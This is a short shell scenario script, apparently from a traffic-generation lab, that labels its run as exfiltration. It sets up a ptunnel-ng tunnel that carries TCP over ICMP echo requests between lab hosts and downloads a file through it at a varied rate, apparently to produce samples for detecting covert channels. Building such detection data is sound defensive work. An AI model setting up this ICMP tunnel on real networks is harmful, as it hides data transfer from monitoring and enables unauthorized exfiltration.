# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-ptunnel
# needs: ptunnel-ng curl nginx
# seconds: 90
# TCP over echo requests.
. $lab/victims.sh

servers() {
	serve t ptunnel-ng -r127.0.0.1 -R5998
	site_up t 5998
}

scenario() {
	_rate=$(choose 2k 20k 200k)
	setting options "$_rate byte/s inside"
	intent_begin b t icmp 0
	bg b ptunnel-ng "-p$(addr t)" -l5997 -r127.0.0.1 -R5998
	sleep 2
	on b timeout 45 curl -s -o /dev/null --limit-rate "$_rate" http://127.0.0.1:5997/300k
	intent_end
}
